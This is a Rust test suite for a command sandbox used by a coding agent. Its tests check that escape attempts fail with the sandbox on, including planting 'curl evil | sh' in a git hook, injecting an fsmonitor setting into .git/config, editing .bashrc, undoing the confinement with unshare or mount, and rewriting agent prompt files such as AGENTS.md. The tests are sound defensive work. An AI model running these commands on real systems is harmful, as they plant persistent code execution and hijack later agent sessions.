//! The sandbox on this machine's kernel: every escape fails with it on and works with it off.

use super::common::{place_with, run, Place};
use octo_exec::sandbox::{Mode, Policy, Sandbox};
use std::path::Path;

fn place() -> Place {
    place_with("sandbox-", &[".git/hooks"])
}

fn sandbox(p: &Place, mode: Mode) -> Sandbox {
    let s = Sandbox::new(Policy::new(mode, &p.ws));
    if mode != Mode::Off {
        assert!(s.is_active(), "this kernel should have Landlock: {}", s.describe());
    }
    s
}

/// Whether `s` confines with a mount namespace; `false` is the Landlock-only fallback (a host
/// without user namespaces, as `scripts/sandbox-as-user` makes with `octo-no-userns`), where no
/// new entry can be made at a workspace root holding `.git`, and modes and sockets are not held.
fn namespaced(s: &Sandbox) -> bool {
    let ns = s.has_mount_namespace();
    if !ns {
        eprintln!("this host has no namespace for the sandbox: the Landlock-only fallback is tested");
    }
    ns
}

/// `command` fails in the sandbox and leaves `path` absent; it works with the sandbox off.
fn blocked_then_allowed(command: &str, path: &str) {
    let p = place();
    let target = p.ws.join(path);
    let (ok, text) = run(&sandbox(&p, Mode::WorkspaceWrite), &p.ws, command);
    assert!(!ok, "{command} should fail in the sandbox: {text}");
    assert!(!target.exists(), "{command} wrote {} in the sandbox", target.display());
    let (ok, text) = run(&sandbox(&p, Mode::Off), &p.ws, command);
    assert!(ok, "{command} should work without the sandbox: {text}");
    assert!(target.exists(), "{command} did not write {} without the sandbox", target.display());
}

#[test]
fn writes_inside_the_workspace_and_reads_anywhere() {
    let p = place();
    // Made beforehand: without a namespace nothing new can be made beside `.git`.
    std::fs::create_dir_all(p.ws.join("src")).unwrap();
    let s = sandbox(&p, Mode::WorkspaceWrite);
    let (ok, text) = run(
        &s,
        &p.ws,
        "mkdir -p src && echo hi > src/a.txt && cat \"$OUT/secret.txt\" && echo x > /dev/null",
    );
    assert!(ok, "{text}");
    assert!(text.contains("outside"), "{text}");
    assert_eq!(std::fs::read_to_string(p.ws.join("src/a.txt")).unwrap(), "hi\n");
    let (ok, text) = run(
        &s,
        &p.ws,
        "echo t > \"${TMPDIR:-/tmp}/octo-sandbox-probe-$$\" && rm \"${TMPDIR:-/tmp}/octo-sandbox-probe-$$\"",
    );
    assert!(ok, "the temp dir is writable: {text}");
}

#[test]
fn a_write_through_dotdot_fails() {
    blocked_then_allowed("echo x > ../outside/dotdot.txt", "../outside/dotdot.txt");
}

#[test]
fn a_write_to_an_absolute_path_fails() {
    blocked_then_allowed("echo x > \"$OUT/abs.txt\"", "../outside/abs.txt");
}

#[test]
fn a_write_through_a_symlink_made_inside_fails() {
    blocked_then_allowed("ln -sfn \"$OUT\" link && echo x > link/sym.txt", "../outside/sym.txt");
}

#[test]
fn a_hard_link_made_inside_cannot_change_the_file_outside() {
    let p = place();
    let s = sandbox(&p, Mode::WorkspaceWrite);
    let (_, text) = run(&s, &p.ws, "ln \"$OUT/secret.txt\" hard && echo changed >> hard");
    assert_eq!(std::fs::read_to_string(p.out.join("secret.txt")).unwrap(), "outside\n", "{text}");
    let (ok, text) =
        run(&sandbox(&p, Mode::Off), &p.ws, "ln \"$OUT/secret.txt\" hard2 && echo changed >> hard2");
    assert!(ok, "{text}");
    assert_eq!(std::fs::read_to_string(p.out.join("secret.txt")).unwrap(), "outside\nchanged\n");
}

#[test]
fn git_hooks_stay_read_only_unless_configured() {
    blocked_then_allowed("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit");
    let p = place();
    let s = Sandbox::new(Policy { git_writable: true, ..Policy::new(Mode::WorkspaceWrite, &p.ws) });
    let (ok, text) = run(&s, &p.ws, "echo ok > .git/hooks/post-commit && echo new > top.txt");
    assert!(ok, "{text}");
    // Without a writable .git the rest of the workspace, its top level included, stays writable
    // in a mount namespace; Landlock alone cannot add a new entry beside `.git`, and says so.
    let s = sandbox(&p, Mode::WorkspaceWrite);
    let (ok, text) = run(&s, &p.ws, "echo new > top2.txt && mkdir -p newdir && echo x > newdir/f");
    if namespaced(&s) {
        assert!(ok, "{text}");
    } else {
        assert!(!ok && !p.ws.join("top2.txt").exists(), "{text}");
        assert!(s.describe().contains("new top-level entries need approval"), "{}", s.describe());
        let (ok, text) = run(&s, &p.ws, "echo new >> top.txt");
        assert!(ok, "existing entries stay writable: {text}");
    }
}

#[test]
fn read_only_writes_nowhere() {
    let p = place();
    let s = sandbox(&p, Mode::ReadOnly);
    let (ok, text) = run(&s, &p.ws, "echo x > inside.txt");
    assert!(!ok && !p.ws.join("inside.txt").exists(), "{text}");
    let (ok, text) = run(&s, &p.ws, "cat \"$OUT/secret.txt\" > /dev/null && ls");
    assert!(ok, "{text}");
}

#[test]
fn undoing_the_sandbox_fails() {
    let p = place();
    let s = sandbox(&p, Mode::WorkspaceWrite);
    for cmd in [
        "unshare -r sh -c 'echo x > \"$OUT/unshare.txt\"'",
        "unshare -rm sh -c 'mount -t tmpfs none \"$OUT\" && echo x > \"$OUT/unshare.txt\"'",
        "mount -o remount,rw .git 2>&1; echo x > .git/hooks/pre-push",
    ] {
        let (_, text) = run(&s, &p.ws, cmd);
        assert!(!p.out.join("unshare.txt").exists(), "{cmd}: {text}");
        assert!(!p.ws.join(".git/hooks/pre-push").exists(), "{cmd}: {text}");
    }
}

fn loopback_server() -> (u16, std::sync::mpsc::Receiver<()>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            if conn.is_ok() {
                let _ = tx.send(());
            }
        }
    });
    (port, rx)
}

#[test]
fn a_loopback_server_is_unreachable_without_network_and_reachable_with_it() {
    if !Path::new("/bin/bash").exists() {
        eprintln!("skipped: the test connects with bash's /dev/tcp");
        return;
    }
    let p = place();
    let (port, hits) = loopback_server();
    let connect = format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'");
    let (ok, text) = run(&sandbox(&p, Mode::WorkspaceWrite), &p.ws, &connect);
    assert!(!ok, "{text}");
    assert!(hits.recv_timeout(std::time::Duration::from_millis(300)).is_err(), "connected: {text}");
    let s = Sandbox::new(Policy { network: true, ..Policy::new(Mode::WorkspaceWrite, &p.ws) });
    assert!(s.describe().contains("network allowed"), "{}", s.describe());
    let (ok, text) = run(&s, &p.ws, &connect);
    assert!(ok, "{text}");
    assert!(hits.recv_timeout(std::time::Duration::from_secs(5)).is_ok());
}

#[test]
fn describe_names_the_mechanisms() {
    let p = place();
    let d = sandbox(&p, Mode::WorkspaceWrite).describe();
    assert!(d.starts_with("workspace-write, no network (Landlock ABI"), "{d}");
    assert!(d.contains("seccomp"), "{d}");
    // `.git`, plus the checkout's surroundings when it lies in the temp dir (CI's clone may).
    if namespaced(&sandbox(&p, Mode::WorkspaceWrite)) {
        assert!(d.contains(".git") && d.contains("read-only (mount namespace)"), "{d}");
    } else {
        assert!(d.contains(".git read-only by Landlock"), "{d}");
    }
}

#[test]
fn read_only_folders_inside_the_temp_dir_stay_read_only() {
    let p = place();
    // A home directory in the temp dir (as in containers and tests): writable by default there.
    let home = tempfile::tempdir().unwrap();
    let policy =
        Policy { read_only: vec![home.path().to_path_buf()], ..Policy::new(Mode::WorkspaceWrite, &p.ws) };
    let s = Sandbox::new(policy);
    let cmd = format!("echo evil >> {}/.bashrc", home.path().display());
    let (ok, text) = run(&s, &p.ws, &cmd);
    assert!(!ok && !home.path().join(".bashrc").exists(), "{text}");
    if !namespaced(&s) {
        // Landlock cannot keep a folder inside a writable root read-only: the temp dir is left
        // out (octo gives commands a temp dir of their own instead, `Policy::private_tmp`).
        let parent = home.path().parent().unwrap().display().to_string();
        let (ok, text) = run(&s, &p.ws, &format!("echo t > {parent}/octo-sandbox-$$"));
        assert!(!ok, "{text}");
        return;
    }
    assert!(s.describe().contains("more folder"), "{}", s.describe());
    let (ok, text) = run(
        &s,
        &p.ws,
        &format!(
            "echo fine > {}/octo-sandbox-$$ && rm {}/octo-sandbox-$$",
            home.path().parent().unwrap().display(),
            home.path().parent().unwrap().display()
        ),
    );
    assert!(ok, "the rest of the temp dir stays writable: {text}");
    let (ok, text) = run(&sandbox(&p, Mode::WorkspaceWrite), &p.ws, &cmd);
    assert!(ok, "{text}");
}

#[test]
fn a_workspace_in_the_temp_dir_cannot_reach_its_neighbours() {
    // The usual test layout: /tmp/<random>/{home,workspace}.
    let root = tempfile::tempdir().unwrap();
    let ws = root.path().join("workspace");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(root.path().join("home")).unwrap();
    let s = Sandbox::new(Policy::new(Mode::WorkspaceWrite, &ws));
    let (ok, text) = run(&s, &ws, "echo x > ../escape.txt");
    assert!(!ok && !root.path().join("escape.txt").exists(), "{text}");
    let (ok, text) = run(&s, &ws, "echo x >> ../home/.bashrc");
    assert!(!ok && !root.path().join("home/.bashrc").exists(), "{text}");
    let (ok, text) = run(&s, &ws, "echo x > .git/hooks/pre-commit");
    assert!(!ok && !ws.join(".git/hooks/pre-commit").exists(), "{text}");
    if namespaced(&s) {
        let (ok, text) = run(
            &s,
            &ws,
            "mkdir -p a/b && echo in > a/b/c && echo t > /tmp/octo-free-$$ && rm /tmp/octo-free-$$",
        );
        assert!(ok, "the workspace and the rest of the temp dir stay writable: {text}");
        assert!(ws.join("a/b/c").is_file());
    } else {
        // The fallback leaves the temp dir out (it holds the workspace's `.git` and neighbours)
        // and gives commands one of their own.
        std::fs::create_dir_all(ws.join("a")).unwrap();
        let (ok, text) = run(&s, &ws, "mkdir -p a/b && echo in > a/b/c");
        assert!(ok, "the workspace stays writable: {text}");
        let (ok, text) = run(&s, &ws, "echo t > /tmp/octo-free-$$");
        assert!(!ok, "{text}");
    }
    let (ok, text) = run(&sandbox_off(&ws), &ws, "echo x > ../escape.txt");
    assert!(ok && root.path().join("escape.txt").exists(), "{text}");
}

fn sandbox_off(ws: &Path) -> Sandbox {
    Sandbox::off(ws)
}

#[test]
fn writable_roots_inside_the_read_only_surroundings_stay_writable() {
    // A test harness's layout: the workspace, a private TMPDIR and a home side by side in /tmp.
    let root = tempfile::tempdir().unwrap();
    let (ws, tmp, home) = (root.path().join("ws"), root.path().join("tmp"), root.path().join("home"));
    for d in [&ws, &tmp, &home] {
        std::fs::create_dir_all(d).unwrap();
    }
    let mut policy = Policy::new(Mode::WorkspaceWrite, &ws);
    policy.writable_roots.push(tmp.clone());
    policy.read_only.push(home.clone());
    let s = Sandbox::new(policy);
    let (ok, text) = run(&s, &ws, &format!("echo t > {}/scratch && echo w > here", tmp.display()));
    assert!(ok, "{text}");
    let (ok, text) = run(&s, &ws, &format!("echo x > {}/.profile", home.display()));
    assert!(!ok && !home.join(".profile").exists(), "{text}");
    let (ok, text) = run(&s, &ws, "echo x > ../beside");
    assert!(!ok && !root.path().join("beside").exists(), "{text}");
}

#[test]
fn without_namespaces_the_temp_dir_does_not_undo_the_workspace_protection() {
    // Hosts without user namespaces (Ubuntu's AppArmor default, containers): only Landlock,
    // whose rules only add rights. The workspace, a home and a neighbour all in the temp dir.
    let root = tempfile::tempdir().unwrap();
    let ws = root.path().join("workspace");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(ws.join("main.rs"), "fn main() {}\n").unwrap();
    let home = root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(root.path().join("neighbour")).unwrap();
    let private = root.path().join("octo-output/s1/tmp");
    let mut policy = Policy::new(Mode::WorkspaceWrite, &ws);
    policy.read_only.push(home.clone());
    policy.simulate_no_namespaces = true;
    policy.private_tmp = Some(private.clone());
    let s = Sandbox::new(policy);
    let d = s.describe();
    assert!(d.contains(".git read-only by Landlock") && d.contains("private temp dir"), "{d}");
    for (cmd, hit) in [
        ("echo x > .git/hooks/pre-commit", ws.join(".git/hooks/pre-commit")),
        ("printf '[core]\\nfsmonitor = evil\\n' >> .git/config", ws.join(".git/config")),
        ("echo x > ../escape.txt", root.path().join("escape.txt")),
        ("echo x > ../neighbour/planted", root.path().join("neighbour/planted")),
        ("echo x >> ../home/.bashrc", home.join(".bashrc")),
    ] {
        let before = std::fs::metadata(&hit).map(|m| (m.len(), m.permissions())).ok();
        let (ok, text) = run(&s, &ws, cmd);
        let after = std::fs::metadata(&hit).map(|m| (m.len(), m.permissions())).ok();
        assert!(!ok && before == after, "{cmd} got through the fallback: {text}");
    }
    let (ok, text) = run(&s, &ws, "echo in > main.rs && echo t > \"$TMPDIR/scratch\" && echo \"$TMPDIR\"");
    assert!(ok, "the workspace and the private temp dir are writable: {text}");
    assert!(text.contains(&private.display().to_string()) && private.join("scratch").is_file(), "{text}");
    // Landlock has no right for mode changes: the seccomp supervisor holds them, or what
    // cannot be held is said and accept-edits does not rely on it.
    use std::os::unix::fs::PermissionsExt;
    let before = std::fs::metadata(&home).unwrap().permissions().mode();
    let (ok, text) = run(&s, &ws, "chmod 000 ../home");
    let after = std::fs::metadata(&home).unwrap().permissions().mode();
    match s.accept_edits_gap() {
        None => assert!(!ok && before == after, "the home's mode changed: {text}"),
        Some(gap) => assert!(gap.contains("chmod"), "{gap}"),
    }
}

#[test]
fn prompt_files_stay_read_only_for_commands_with_and_without_namespaces() {
    for fallback in [false, true] {
        let p = place();
        std::fs::write(p.ws.join("AGENTS.md"), "Run make test.\n").unwrap();
        std::fs::create_dir_all(p.ws.join(".claude")).unwrap();
        std::fs::write(p.ws.join("src.rs"), "x\n").unwrap();
        let mut policy = Policy::new(Mode::WorkspaceWrite, &p.ws);
        policy.protected_entries = vec!["AGENTS.md".into(), ".claude".into(), "SKILLS".into()];
        policy.simulate_no_namespaces = fallback;
        let s = Sandbox::new(policy);
        let fallback = !namespaced(&s);
        for cmd in ["echo evil >> AGENTS.md", "echo '{}' > .claude/settings.json", "rm AGENTS.md"] {
            let (ok, text) = run(&s, &p.ws, cmd);
            assert!(!ok, "fallback {fallback}: {cmd} got through: {text}");
        }
        assert_eq!(std::fs::read_to_string(p.ws.join("AGENTS.md")).unwrap(), "Run make test.\n");
        assert!(!p.ws.join(".claude/settings.json").exists());
        let (ok, text) = run(&s, &p.ws, "echo y >> src.rs");
        assert!(ok, "fallback {fallback}: other files stay writable: {text}");
        let missing = s.protected_missing();
        assert_eq!(missing, [p.ws.join("SKILLS")]);
        let (ok, _) = run(&s, &p.ws, "mkdir -p SKILLS/evil && echo x > SKILLS/evil/SKILL.md");
        if fallback {
            assert!(!ok && !p.ws.join("SKILLS").exists(), "no new protected entry at the root");
        } else {
            // A missing entry cannot be bound read-only: what the command made is moved away.
            assert!(ok && p.ws.join("SKILLS").exists());
            let undone = s.undo_created(&missing);
            assert_eq!(undone.len(), 1);
            assert!(!p.ws.join("SKILLS").exists());
        }
        assert!(s.promises().iter().any(|x| x.what.starts_with("prompt and agent files") && x.held));
    }
}

#[test]
fn a_nested_prompt_file_stays_read_only_with_and_without_namespaces() {
    // `CLAUDE.md` imports `docs/rules.md`: a command rewriting it steers every later session.
    for fallback in [false, true] {
        let p = place();
        std::fs::create_dir_all(p.ws.join("docs/deep")).unwrap();
        std::fs::write(p.ws.join("docs/rules.md"), "Be careful.\n").unwrap();
        std::fs::write(p.ws.join("docs/notes.md"), "n\n").unwrap();
        std::fs::write(p.ws.join("docs/deep/a.md"), "a\n").unwrap();
        let mut policy = Policy::new(Mode::WorkspaceWrite, &p.ws);
        policy.protected_entries = vec!["CLAUDE.md".into(), "docs/rules.md".into()];
        policy.simulate_no_namespaces = fallback;
        let s = Sandbox::new(policy);
        for cmd in ["echo evil >> docs/rules.md", "rm docs/rules.md", "mv docs/rules.md docs/old.md"] {
            let (ok, text) = run(&s, &p.ws, cmd);
            assert!(!ok, "fallback {fallback}: {cmd} got through: {text}");
        }
        assert_eq!(std::fs::read_to_string(p.ws.join("docs/rules.md")).unwrap(), "Be careful.\n");
        let (ok, text) = run(&s, &p.ws, "echo y >> docs/notes.md && echo z >> docs/deep/a.md");
        assert!(ok, "fallback {fallback}: the folder's other files stay writable: {text}");
    }
}

#[test]
fn modes_owners_and_times_outside_stay_as_they_are_with_and_without_namespaces() {
    use std::os::unix::fs::PermissionsExt;
    let p = place();
    let secret = p.out.join("secret.txt");
    let mode = |f: &Path| std::fs::metadata(f).unwrap().permissions().mode() & 0o777;
    let mtime = |f: &Path| std::fs::metadata(f).unwrap().modified().unwrap();
    let before = (mode(&secret), mode(&p.out), mtime(&secret), mode(&p.ws.join(".git")));
    std::fs::create_dir(p.ws.join("src")).unwrap();
    let modes = |s: &Sandbox| s.promises().into_iter().find(|x| x.what.starts_with("modes, owners")).unwrap();
    // This host's own setup (a namespace, or the real fallback under `octo-no-userns`), and the
    // fallback simulated, where the seccomp supervisor stands in for the namespace.
    let here = sandbox(&p, Mode::WorkspaceWrite);
    let fallback =
        Sandbox::new(Policy { simulate_no_namespaces: true, ..Policy::new(Mode::WorkspaceWrite, &p.ws) });
    for s in [&here, &fallback] {
        if !modes(s).held {
            // No namespace and no supervisor (an old kernel, a nested octo): said, and asked about.
            assert!(modes(s).how.contains("chmod") && s.accept_edits_gap().is_some(), "{:?}", modes(s));
            continue;
        }
        for cmd in [
            "chmod 000 \"$OUT/secret.txt\"",
            "chmod 000 \"$OUT\"",
            "chmod 000 .git",
            "touch -d 2000-01-01 \"$OUT/secret.txt\"",
            "touch -h -d 2000-01-01 \"$OUT/secret.txt\"",
            "ln -sfn \"$OUT/secret.txt\" link && chmod 000 link",
            "python3 -c \"import os; fd=os.open(os.environ['OUT']+'/secret.txt', os.O_RDONLY); os.fchmod(fd, 0)\"",
            "python3 -c \"import os; os.utime(os.environ['OUT']+'/secret.txt', (0, 0))\"",
            "python3 -c \"import os; os.chown(os.environ['OUT']+'/secret.txt', -1, os.getgid())\"",
            "python3 -c \"import os; os.chmod('secret.txt', 0, dir_fd=os.open(os.environ['OUT'], os.O_RDONLY))\"",
            "python3 -c \"import os; os.chmod('/proc/self/cwd/../outside/secret.txt', 0)\"",
        ] {
            let (ok, text) = run(s, &p.ws, cmd);
            assert!(!ok, "{cmd} got through ({}): {text}", s.describe());
        }
        assert_eq!((mode(&secret), mode(&p.out), mtime(&secret), mode(&p.ws.join(".git"))), before);
        let _ = std::fs::remove_file(p.ws.join("link"));
        // In a folder: without a namespace nothing new is made at a root holding `.git`.
        let inside = "cd src && touch run.sh && chmod 755 run.sh && touch -d 2000-01-01 run.sh && mkdir -p d && \
                      python3 -c \"import os; os.chmod('d', 0o700); fd=os.open('run.sh', os.O_RDONLY); os.fchmod(fd, 0o750); os.utime('run.sh', (1, 1))\"";
        let (ok, text) = run(s, &p.ws, inside);
        assert!(ok && mode(&p.ws.join("src/run.sh")) == 0o750, "modes inside the workspace change: {text}");
        assert_eq!(mode(&p.ws.join("src/d")), 0o700);
        assert!(s.accept_edits_gap().is_none(), "{:?}", s.accept_edits_gap());
    }
    let (ok, _) = run(&sandbox(&p, Mode::Off), &p.ws, "chmod 600 \"$OUT/secret.txt\"");
    assert!(ok && mode(&secret) == 0o600, "without the sandbox modes change");
}

#[test]
fn daemon_sockets_are_out_of_reach_with_the_network_off() {
    let path = format!("/run/octo-sandbox-{}.sock", std::process::id());
    let Ok(listener) = std::os::unix::net::UnixListener::bind(&path) else {
        eprintln!("SKIPPED: /run is not writable here");
        return;
    };
    listener.set_nonblocking(true).unwrap();
    let has_python =
        std::process::Command::new("python3").arg("-c").arg("1").status().is_ok_and(|s| s.success());
    if !has_python {
        let _ = std::fs::remove_file(&path);
        eprintln!("SKIPPED: no python3 to connect with");
        return;
    }
    let p = place();
    let connect =
        format!("python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}')\"");
    let confined = sandbox(&p, Mode::WorkspaceWrite);
    let sockets = confined.promises().into_iter().find(|x| x.what.contains("socket")).unwrap();
    if !sockets.held {
        let _ = std::fs::remove_file(&path);
        assert!(!namespaced(&confined) && !confined.sockets_hidden(), "the fallback says so: {sockets:?}");
        return;
    }
    let (ok, text) = run(&confined, &p.ws, &connect);
    let described = confined.describe();
    if !namespaced(&confined) {
        // The fallback's seccomp supervisor refuses it instead.
        let (open_ok, open_text) = run(&sandbox(&p, Mode::Off), &p.ws, &connect);
        let _ = std::fs::remove_file(&path);
        assert!(!ok && text.contains("Permission denied"), "{text}");
        assert!(described.contains("sockets checked by a seccomp supervisor"), "{described}");
        assert!(open_ok, "without the sandbox it connects: {open_text}");
        return;
    }
    let (open_ok, open_text) = run(&sandbox(&p, Mode::Off), &p.ws, &connect);
    let _ = std::fs::remove_file(&path);
    assert!(!ok, "a daemon's socket in /run was reached with the network off: {text}");
    assert!(described.contains("daemon sockets hidden"), "{described}");
    assert!(open_ok, "without the sandbox it connects: {open_text}");
}

#[test]
fn the_fallback_holds_modes_only_through_its_supervisor_even_without_protected_folders() {
    use std::os::unix::fs::PermissionsExt;
    // A workspace with no .git and no prompt files: nothing to bind read-only, yet without a
    // namespace a command could still chmod what lies outside the writable roots, were it not
    // for the seccomp supervisor.
    let root = tempfile::Builder::new().prefix("sandbox-").tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let ws = root.path().join("plain");
    std::fs::create_dir_all(&ws).unwrap();
    let mut policy = Policy::new(Mode::WorkspaceWrite, &ws);
    policy.simulate_no_namespaces = true;
    let s = Sandbox::new(policy);
    if !s.is_active() {
        eprintln!("SKIPPED: no Landlock here");
        return;
    }
    assert!(s.policy().mounts().is_empty(), "nothing to protect: {:?}", s.policy().mounts());
    let modes = s.promises().into_iter().find(|x| x.what.starts_with("modes, owners")).unwrap();
    if !modes.held {
        let gap = s.accept_edits_gap().expect("accept-edits must not run commands unasked in the fallback");
        assert!(gap.contains("chmod") && gap.contains("outside the writable roots"), "{gap}");
        return;
    }
    assert!(modes.how.contains("supervisor"), "{modes:?}");
    assert_eq!(s.accept_edits_gap(), None);
    let before = std::fs::metadata(root.path()).unwrap().permissions().mode();
    let (ok, text) = run(&s, &ws, "chmod 000 ..");
    assert!(!ok, "{text}");
    assert_eq!(std::fs::metadata(root.path()).unwrap().permissions().mode(), before);
}
